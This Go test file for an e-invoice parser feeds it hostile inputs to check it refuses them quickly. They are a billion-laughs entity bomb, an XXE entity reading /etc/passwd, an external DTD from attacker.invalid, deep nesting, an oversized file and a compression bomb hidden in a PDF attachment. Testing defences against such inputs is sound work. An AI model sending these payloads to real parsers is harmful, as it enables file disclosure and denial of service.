package einvoice

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestHostileXMLIsRefusedFast(t *testing.T) {
	laughs := `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&lol9;</ID></Invoice>`
	external := `<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&xxe;</ID></Invoice>`
	externalDTD := `<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.invalid/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>1</ID></Invoice>`
	undeclared := `<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&xxe;</ID></Invoice>`
	deep := "<Invoice>" + strings.Repeat("<a>", 10_000) + strings.Repeat("</a>", 10_000) + "</Invoice>"
	cases := []struct {
		name, xml string
		hostile   bool
	}{
		{"billion laughs", laughs, true},
		{"external entity", external, true},
		{"external DTD", externalDTD, true},
		{"undeclared entity", undeclared, false},
		{"deep nesting", deep, true},
		{"not XML", "%PDF-1.7 nonsense", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			start := time.Now()
			inv, err := Parse([]byte(c.xml))
			if err == nil {
				t.Fatalf("parsed %+v; want an error", inv)
			}
			if c.hostile && !errors.Is(err, ErrHostile) {
				t.Errorf("error %q is not ErrHostile", err)
			}
			if strings.Contains(err.Error(), "root:") || strings.Contains(err.Error(), "lollol") {
				t.Errorf("error leaks content: %q", err)
			}
			if d := time.Since(start); d > time.Second {
				t.Errorf("took %s to refuse", d)
			}
		})
	}
}

func TestHugeFilesAreRefusedUnread(t *testing.T) {
	dir := t.TempDir()
	huge := filepath.Join(dir, "huge.xml")
	f, err := os.Create(huge)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(`<?xml version="1.0"?><Invoice>`)
	if err := f.Truncate(100 << 20); err != nil { // sparse: 100 MB without writing them
		t.Fatal(err)
	}
	f.Close()
	start := time.Now()
	_, err = Read(huge, MaxXMLBytes)
	if !errors.Is(err, ErrHostile) || !strings.Contains(err.Error(), "100 MB") {
		t.Fatalf("Read(100 MB) = %v; want a size refusal", err)
	}
	if d := time.Since(start); d > 500*time.Millisecond {
		t.Errorf("took %s: the file was read", d)
	}
	// Parse guards itself too, for XML handed over from a PDF.
	big := append([]byte("<Invoice>"), bytes.Repeat([]byte(" "), MaxXMLBytes)...)
	if _, err := Parse(big); !errors.Is(err, ErrHostile) {
		t.Errorf("Parse(%d bytes) = %v; want ErrHostile", len(big), err)
	}
}

// minimalPDF builds a PDF whose single attachment holds payload, compressed.
func minimalPDF(t *testing.T, name string, payload []byte) []byte {
	t.Helper()
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(payload)
	zw.Close()
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	b.WriteString("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + name + ") 4 0 R] >> >> >>\nendobj\n")
	b.WriteString("2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
	b.WriteString("3 0 obj\n<< /Length 5 >>\nstream\nBT ET\nendstream\nendobj\n")
	b.WriteString("4 0 obj\n<< /Type /Filespec /F (" + name + ") /UF (" + name + ") /AFRelationship /Data /EF << /F 5 0 R >> >>\nendobj\n")
	fmt.Fprintf(&b, "5 0 obj\n<< /Type /EmbeddedFile /Subtype /text#2Fxml /Filter /FlateDecode /Length %d >>\nstream\n", z.Len())
	b.Write(z.Bytes())
	b.WriteString("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
	return b.Bytes()
}

const tinyCII = `<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
<rsm:ExchangedDocumentContext><ram:GuidelineSpecifiedDocumentContextParameter><ram:ID>urn:cen.eu:en16931:2017</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter></rsm:ExchangedDocumentContext>
<rsm:ExchangedDocument><ram:ID>INV-7</ram:ID><ram:TypeCode>381</ram:TypeCode><ram:IssueDateTime><udt:DateTimeString format="102">20250301</udt:DateTimeString></ram:IssueDateTime></rsm:ExchangedDocument>
<rsm:SupplyChainTradeTransaction>
<ram:IncludedSupplyChainTradeLineItem><ram:SpecifiedTradeProduct><ram:Name>Widget</ram:Name></ram:SpecifiedTradeProduct>
<ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice><ram:ChargeAmount>50.00</ram:ChargeAmount></ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>
<ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="C62">2</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>
<ram:SpecifiedLineTradeSettlement><ram:ApplicableTradeTax><ram:TypeCode>VAT</ram:TypeCode><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
<ram:SpecifiedTradeSettlementLineMonetarySummation><ram:LineTotalAmount>100.00</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement></ram:IncludedSupplyChainTradeLineItem>
<ram:ApplicableHeaderTradeAgreement><ram:SellerTradeParty><ram:Name>Muster GmbH</ram:Name><ram:PostalTradeAddress><ram:PostcodeCode>10115</ram:PostcodeCode><ram:LineOne>Hauptstr. 1</ram:LineOne><ram:CityName>Berlin</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress><ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">DE136695976</ram:ID></ram:SpecifiedTaxRegistration></ram:SellerTradeParty>
<ram:BuyerTradeParty><ram:Name>Kunde AG</ram:Name></ram:BuyerTradeParty></ram:ApplicableHeaderTradeAgreement>
<ram:ApplicableHeaderTradeDelivery/>
<ram:ApplicableHeaderTradeSettlement><ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
<ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode><ram:PayeePartyCreditorFinancialAccount><ram:IBANID>DE02120300000000202051</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
<ram:ApplicableTradeTax><ram:CalculatedAmount>19.00</ram:CalculatedAmount><ram:TypeCode>VAT</ram:TypeCode><ram:BasisAmount>100.00</ram:BasisAmount><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
<ram:SpecifiedTradePaymentTerms><ram:Description>14 Tage netto</ram:Description><ram:DueDateDateTime><udt:DateTimeString format="102">20250315</udt:DateTimeString></ram:DueDateDateTime></ram:SpecifiedTradePaymentTerms>
<ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:LineTotalAmount>100.00</ram:LineTotalAmount><ram:TaxBasisTotalAmount>100.00</ram:TaxBasisTotalAmount><ram:TaxTotalAmount currencyID="EUR">19.00</ram:TaxTotalAmount><ram:GrandTotalAmount>119.00</ram:GrandTotalAmount><ram:DuePayableAmount>119.00</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
</ram:ApplicableHeaderTradeSettlement></rsm:SupplyChainTradeTransaction></rsm:CrossIndustryInvoice>`

func TestXMLFoundInPDFAttachment(t *testing.T) {
	x, name, err := FromPDF(minimalPDF(t, "factur-x.xml", []byte(tinyCII)))
	if err != nil {
		t.Fatal(err)
	}
	if name != "factur-x.xml" || !bytes.Equal(x, []byte(tinyCII)) {
		t.Fatalf("got %q, %d bytes; want factur-x.xml with the XML", name, len(x))
	}
	if _, _, err := FromPDF(minimalPDF(t, "notes.txt", []byte("just notes"))); !errors.Is(err, ErrNoInvoiceInPDF) {
		t.Errorf("a PDF with a text attachment: %v; want ErrNoInvoiceInPDF", err)
	}
}

func TestCompressionBombInPDFIsRefused(t *testing.T) {
	bomb := append([]byte(`<?xml version="1.0"?><rsm:CrossIndustryInvoice>`), bytes.Repeat([]byte("A"), MaxXMLBytes+10)...)
	pdf := minimalPDF(t, "factur-x.xml", bomb)
	if len(pdf) > 1<<20 {
		t.Fatalf("bomb PDF is %d bytes; the test wants a small file that unpacks big", len(pdf))
	}
	_, _, err := FromPDF(pdf)
	if err == nil || !strings.Contains(err.Error(), "over 16 MB") {
		t.Fatalf("FromPDF(bomb) = %v; want the unpack limit named", err)
	}
}
